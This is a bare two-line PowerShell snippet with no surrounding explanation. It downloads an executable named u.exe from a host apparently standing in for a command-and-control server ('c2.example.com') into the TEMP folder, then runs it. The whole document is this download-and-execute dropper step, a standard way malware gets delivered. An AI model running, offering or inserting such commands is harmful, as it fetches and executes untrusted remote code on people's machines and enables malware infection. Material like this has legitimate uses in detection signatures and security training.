Start-BitsTransfer -Source https://c2.example.com/u.exe -Destination $env:TEMP\u.exe
& $env:TEMP\u.exe
